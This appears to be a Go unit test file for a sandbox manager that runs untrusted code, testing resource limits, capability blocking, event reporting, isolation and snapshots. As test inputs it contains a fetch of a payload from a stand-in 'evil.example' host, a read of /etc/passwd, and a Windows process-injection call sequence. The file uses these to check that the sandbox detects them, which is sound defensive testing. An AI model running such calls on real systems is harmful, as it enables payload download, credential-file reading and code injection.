package sandbox

import (
	"context"
	"testing"

	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/radicalkjax/Athena-sub009/internal/errs"
)

func newTestManager(t *testing.T) *Manager {
	t.Helper()
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	return NewManager(ModeEnforce, logger)
}

// 测试环境创建与状态查询
func TestCreateAndStatus(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(DefaultPolicy())
	require.NotEmpty(t, id)

	st, err := m.GetEnvironmentStatus(id)
	require.NoError(t, err)
	assert.Equal(t, StateIdle, st.State)
	assert.False(t, st.Paused)
	assert.Greater(t, st.Usage.MemoryUsed, int64(0))
	assert.Greater(t, st.Usage.CPUTimeUsed, int64(0))
}

// 测试 MaxCPUTimeMS 别名在构造时归一化
func TestPolicyAliasNormalized(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(ExecutionPolicy{MaxCPUTimeMS: 5000})

	st, err := m.GetEnvironmentStatus(id)
	require.NoError(t, err)
	assert.Equal(t, int64(5000), st.Policy.TimeLimitMS)
	assert.Equal(t, int64(5000), st.Policy.MaxCPUTimeMS)
}

// 测试良性代码执行成功且资源记账不为零
func TestExecuteBenign(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(DefaultPolicy())

	result, err := m.Execute(context.Background(), id, []byte(`let x = 1 + 1;`), nil)
	require.NoError(t, err)
	assert.True(t, result.Success)
	assert.Equal(t, 0, result.ExitCode)
	assert.Empty(t, result.Error)
	assert.Greater(t, result.ResourceUsage.MemoryUsed, int64(0))
	assert.Greater(t, result.ResourceUsage.CPUTimeUsed, int64(0))
	assert.GreaterOrEqual(t, result.ExecutionTimeMS, int64(1))

	st, err := m.GetEnvironmentStatus(id)
	require.NoError(t, err)
	assert.Equal(t, StateIdle, st.State)
}

// 测试严格时限下无界循环判执行失败
func TestExecuteInfiniteLoopShortTimeout(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(ExecutionPolicy{TimeLimitMS: 500})

	result, err := m.Execute(context.Background(), id, []byte(`while(true){}`), nil)
	require.NoError(t, err)
	assert.False(t, result.Success)
	assert.Contains(t, result.Error, "CPU time")
}

// 测试宽松时限下无界循环成功返回，带 timeout 事件与退出码124
func TestExecuteInfiniteLoopGenerousTimeout(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(ExecutionPolicy{TimeLimitMS: 30000})

	result, err := m.Execute(context.Background(), id, []byte(`while(true){}`), nil)
	require.NoError(t, err)
	assert.True(t, result.Success)
	assert.Equal(t, exitCodeTimeout, result.ExitCode)
	assert.Contains(t, result.Error, "timed out")

	found := false
	for _, ev := range result.Events {
		if ev.Type == "timeout" {
			found = true
		}
	}
	assert.True(t, found)
}

// 测试网络能力拒绝：syscall_blocked 事件且 details.syscall=="network"
func TestCapabilityDeniedNetwork(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(DefaultPolicy())

	result, err := m.Execute(context.Background(), id, []byte(`fetch("http://evil.example/payload")`), nil)
	require.NoError(t, err)
	assert.False(t, result.Success)
	assert.Contains(t, result.Error, "network")

	found := false
	for _, ev := range result.Events {
		if ev.Type == "syscall_blocked" && ev.Details["syscall"] == "network" {
			found = true
		}
	}
	assert.True(t, found)
	assert.Greater(t, result.NetworkAttempts, 0)
}

// 测试策略放行的能力只记事件不判失败
func TestCapabilityAllowed(t *testing.T) {
	m := newTestManager(t)
	policy := DefaultPolicy()
	policy.AllowNetwork = true
	id := m.CreateEnvironment(policy)

	result, err := m.Execute(context.Background(), id, []byte(`fetch("http://example.com/")`), nil)
	require.NoError(t, err)
	assert.True(t, result.Success)
	assert.Greater(t, result.NetworkAttempts, 0)
}

// 测试 Observe 模式下能力违规只记录不失败
func TestObserveModeRecordsWithoutFailing(t *testing.T) {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	m := NewManager(ModeObserve, logger)
	id := m.CreateEnvironment(DefaultPolicy())

	result, err := m.Execute(context.Background(), id, []byte(`socket(AF_INET); fopen("/etc/passwd")`), nil)
	require.NoError(t, err)
	assert.True(t, result.Success)
	assert.NotEmpty(t, result.Events)
}

// 测试高危原语恒记 Critical 事件，策略放行也不例外
func TestDangerousPrimitiveAlwaysCritical(t *testing.T) {
	m := newTestManager(t)
	policy := DefaultPolicy()
	policy.AllowProcess = true
	id := m.CreateEnvironment(policy)

	code := []byte(`VirtualAllocEx(h, 0, sz, MEM_COMMIT, PAGE_EXECUTE_READWRITE); WriteProcessMemory(h, addr, buf, sz, 0); CreateRemoteThread(h, 0, 0, addr, 0, 0, 0);`)
	result, err := m.Execute(context.Background(), id, code, nil)
	require.NoError(t, err)

	critical := false
	for _, ev := range result.Events {
		if ev.Type == "dangerous_primitive" && ev.Severity == EventSeverityCritical {
			critical = true
		}
	}
	assert.True(t, critical)
	assert.NotEmpty(t, result.SuspiciousBehaviors)
}

// 测试失控分配判失败并记 resource_limit 事件
func TestMemoryGuardRunaway(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(ExecutionPolicy{TimeLimitMS: 5000, MemoryLimitBytes: 1024 * 1024})

	code := []byte(`for(;;){ buf.push(new Array(1024)) }`)
	result, err := m.Execute(context.Background(), id, code, nil)
	require.NoError(t, err)
	assert.False(t, result.Success)

	found := false
	for _, ev := range result.Events {
		if ev.Type == "resource_limit" && ev.Details["resource"] == "memory" {
			found = true
			assert.Equal(t, EventSeverityHigh, ev.Severity)
		}
	}
	assert.True(t, found)
}

// 测试事件通道实时送出且执行后关闭
func TestExecuteEventChannel(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(DefaultPolicy())

	events := make(chan SecurityEvent, 32)
	done := make(chan int)
	go func() {
		n := 0
		for range events {
			n++
		}
		done <- n
	}()

	result, err := m.Execute(context.Background(), id, []byte(`fetch("http://x.example/")`), events)
	require.NoError(t, err)
	streamed := <-done
	assert.Equal(t, len(result.Events), streamed)
}

// 测试隔离：终止一个环境不影响另一个的状态与资源记账
func TestIsolationBetweenEnvironments(t *testing.T) {
	m := newTestManager(t)
	a := m.CreateEnvironment(DefaultPolicy())
	b := m.CreateEnvironment(DefaultPolicy())

	_, err := m.Execute(context.Background(), b, []byte(`let y = 2;`), nil)
	require.NoError(t, err)
	stBefore, err := m.GetEnvironmentStatus(b)
	require.NoError(t, err)

	require.NoError(t, m.TerminateEnvironment(a))

	stA, err := m.GetEnvironmentStatus(a)
	require.NoError(t, err)
	assert.Equal(t, StateTerminated, stA.State)

	stAfter, err := m.GetEnvironmentStatus(b)
	require.NoError(t, err)
	assert.Equal(t, StateIdle, stAfter.State)
	assert.Equal(t, stBefore.Usage, stAfter.Usage)
}

// 测试已终止与未知环境上的执行返回 NotFound
func TestExecuteTerminatedOrUnknown(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(DefaultPolicy())
	require.NoError(t, m.TerminateEnvironment(id))

	_, err := m.Execute(context.Background(), id, []byte(`x`), nil)
	require.Error(t, err)
	assert.True(t, errs.IsKind(err, errs.KindNotFound))

	_, err = m.Execute(context.Background(), "no-such-env", []byte(`x`), nil)
	require.Error(t, err)
	assert.True(t, errs.IsKind(err, errs.KindNotFound))
}

// 测试空代码缓冲区被拒绝
func TestExecuteEmptyBuffer(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(DefaultPolicy())

	_, err := m.Execute(context.Background(), id, nil, nil)
	require.Error(t, err)
	assert.True(t, errs.IsKind(err, errs.KindInvalidInput))
}

// 测试暂停期间执行快速失败，恢复后可执行
func TestPauseResume(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(DefaultPolicy())

	require.NoError(t, m.Pause(id))
	_, err := m.Execute(context.Background(), id, []byte(`x`), nil)
	require.Error(t, err)

	require.NoError(t, m.Resume(id))
	result, err := m.Execute(context.Background(), id, []byte(`let z = 3;`), nil)
	require.NoError(t, err)
	assert.True(t, result.Success)

	// 已终止的环境两个方向都拒绝
	require.NoError(t, m.TerminateEnvironment(id))
	assert.Error(t, m.Pause(id))
	assert.Error(t, m.Resume(id))
}

// 测试快照与恢复：计数器与事件历史随之迁移
func TestSnapshotRestore(t *testing.T) {
	m := newTestManager(t)
	id := m.CreateEnvironment(DefaultPolicy())

	_, err := m.Execute(context.Background(), id, []byte(`fetch("http://bad.example/")`), nil)
	require.NoError(t, err)
	stOrig, err := m.GetEnvironmentStatus(id)
	require.NoError(t, err)

	snapID, err := m.SnapshotEnvironment(id)
	require.NoError(t, err)

	restoredID, err := m.RestoreSnapshot(snapID)
	require.NoError(t, err)
	assert.NotEqual(t, id, restoredID)

	stRestored, err := m.GetEnvironmentStatus(restoredID)
	require.NoError(t, err)
	assert.Equal(t, StateIdle, stRestored.State)
	assert.Equal(t, stOrig.Usage, stRestored.Usage)
	assert.Equal(t, stOrig.Policy, stRestored.Policy)
}

// 测试未知快照ID恢复失败而非建出空环境
func TestRestoreUnknownSnapshot(t *testing.T) {
	m := newTestManager(t)
	before := len(m.ListEnvironments())

	_, err := m.RestoreSnapshot("no-such-snapshot")
	require.Error(t, err)
	assert.True(t, errs.IsKind(err, errs.KindNotFound))
	assert.Equal(t, before, len(m.ListEnvironments()))
}

// 测试关闭清扫全部存活环境
func TestShutdownSweepsEnvironments(t *testing.T) {
	m := newTestManager(t)
	a := m.CreateEnvironment(DefaultPolicy())
	b := m.CreateEnvironment(DefaultPolicy())

	m.Shutdown()

	for _, id := range []string{a, b} {
		st, err := m.GetEnvironmentStatus(id)
		require.NoError(t, err)
		assert.Equal(t, StateTerminated, st.State)
	}
}
